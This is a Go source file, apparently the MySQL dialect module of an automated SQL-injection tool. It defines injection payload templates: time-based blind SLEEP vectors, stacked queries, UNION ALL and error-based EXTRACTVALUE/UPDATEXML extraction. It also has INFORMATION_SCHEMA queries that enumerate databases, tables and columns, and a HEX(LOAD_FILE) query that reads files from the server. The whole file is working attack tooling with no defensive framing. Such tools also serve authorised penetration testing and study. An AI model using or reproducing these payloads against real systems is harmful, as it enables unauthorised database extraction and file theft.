package dbms

import (
	"fmt"
	"regexp"
	"strings"
)

// MySQL implements the DBMS interface for MySQL and MariaDB.
type MySQL struct{}

var mysqlDialect = register(&Dialect{
	Name:     "MySQL",
	Count:    "COUNT(%s)",
	Case:     "SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END)",
	Cast:     "CAST(%s AS CHAR)",
	NullCast: "IFNULL(CAST(%s AS CHAR),' ')",
	Limit: &LimitRule{
		Pattern:    regexp.MustCompile(`(?i)\s+LIMIT\s+(\d+)\s*,\s*(\d+)`),
		StartGroup: 1,
		StopGroup:  2,
		Marker:     " LIMIT ",
	},
	TimeVector:    "AND [RANDNUM]=IF(([INFERENCE]),SLEEP([SLEEPTIME]),[RANDNUM])",
	StackedVector: "; SELECT IF(([INFERENCE]),SLEEP([SLEEPTIME]),[RANDNUM])",
	UnionVector:   "UNION ALL SELECT [QUERY]",
	limitQuery: func(num int, query, fields, field string) string {
		return strings.Replace(query, fields, field, 1) + fmt.Sprintf(" LIMIT %d,1", num)
	},
})

// Name returns the canonical DBMS name.
func (m *MySQL) Name() string {
	return "MySQL"
}

// Concatenate returns a MySQL CONCAT(...) expression.
func (m *MySQL) Concatenate(parts ...string) string {
	if len(parts) == 1 {
		return parts[0]
	}
	return fmt.Sprintf("CONCAT(%s)", strings.Join(parts, ","))
}

// Substring returns a MySQL MID(expr, start, length) expression.
func (m *MySQL) Substring(expr string, start, length int) string {
	return fmt.Sprintf("MID(%s,%d,%d)", expr, start, length)
}

// Length returns a MySQL CHAR_LENGTH(expr) expression, counting characters
// rather than bytes.
func (m *MySQL) Length(expr string) string {
	return fmt.Sprintf("CHAR_LENGTH(%s)", expr)
}

// ASCII returns a MySQL ORD(expr) expression, which is multibyte aware.
func (m *MySQL) ASCII(expr string) string {
	return fmt.Sprintf("ORD(%s)", expr)
}

// Char returns a MySQL CHAR(code) expression.
func (m *MySQL) Char(code int) string {
	return fmt.Sprintf("CHAR(%d)", code)
}

func (m *MySQL) VersionQuery() string     { return "VERSION()" }
func (m *MySQL) CurrentUserQuery() string { return "CURRENT_USER()" }
func (m *MySQL) CurrentDBQuery() string   { return "DATABASE()" }
func (m *MySQL) HostnameQuery() string    { return "@@HOSTNAME" }

// ListDatabasesQuery lists every schema visible to the current user.
func (m *MySQL) ListDatabasesQuery() string {
	return "SELECT schema_name FROM INFORMATION_SCHEMA.SCHEMATA"
}

// ListTablesQuery lists the tables of database.
func (m *MySQL) ListTablesQuery(database string) string {
	return fmt.Sprintf("SELECT table_name FROM INFORMATION_SCHEMA.TABLES WHERE table_schema=%s", m.QuoteString(database))
}

// ListColumnsQuery lists the columns of database.table in ordinal order.
func (m *MySQL) ListColumnsQuery(database, table string) string {
	return fmt.Sprintf("SELECT column_name FROM INFORMATION_SCHEMA.COLUMNS WHERE table_schema=%s AND table_name=%s ORDER BY ordinal_position",
		m.QuoteString(database), m.QuoteString(table))
}

// TableRef returns the qualified table name.
func (m *MySQL) TableRef(database, table string) string {
	if database == "" {
		return table
	}
	return database + "." + table
}

// ErrorPayloads returns the XPATH error vectors. Both functions reflect at
// most 32 characters, one of which is the 0x7e prefix.
func (m *MySQL) ErrorPayloads() []PayloadTemplate {
	return []PayloadTemplate{
		{
			Name:     "extractvalue",
			Template: "AND EXTRACTVALUE([RANDNUM],CONCAT(0x7e,[QUERY]))",
			Output:   31,
			DBMS:     "MySQL",
		},
		{
			Name:     "updatexml",
			Template: "AND UPDATEXML([RANDNUM],CONCAT(0x7e,[QUERY]),[RANDNUM])",
			Output:   31,
			DBMS:     "MySQL",
		},
	}
}

// SleepFunction returns a MySQL SLEEP(n) expression.
func (m *MySQL) SleepFunction(seconds int) string {
	return fmt.Sprintf("SLEEP(%d)", seconds)
}

// IfThenElse returns a MySQL IF(condition, trueExpr, falseExpr) expression.
func (m *MySQL) IfThenElse(condition, trueExpr, falseExpr string) string {
	return fmt.Sprintf("IF(%s,%s,%s)", condition, trueExpr, falseExpr)
}

// QuoteString wraps the string in single quotes, doubling embedded quotes.
func (m *MySQL) QuoteString(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

// CommentSequence returns the MySQL line comment sequence.
func (m *MySQL) CommentSequence() string {
	return "-- -"
}

// FileReadQuery returns a hex-encoded LOAD_FILE so binary content survives
// character bisection.
func (m *MySQL) FileReadQuery(path string) string {
	return fmt.Sprintf("HEX(LOAD_FILE(%s))", m.QuoteString(path))
}

// Capabilities returns the feature set supported by MySQL.
func (m *MySQL) Capabilities() Capabilities {
	return Capabilities{
		StackedQueries: true,
		ErrorBased:     true,
		UnionBased:     true,
		FileRead:       true,
		Subqueries:     true,
		CaseWhen:       true,
		LimitOffset:    true,
		RowLimit:       true,
	}
}
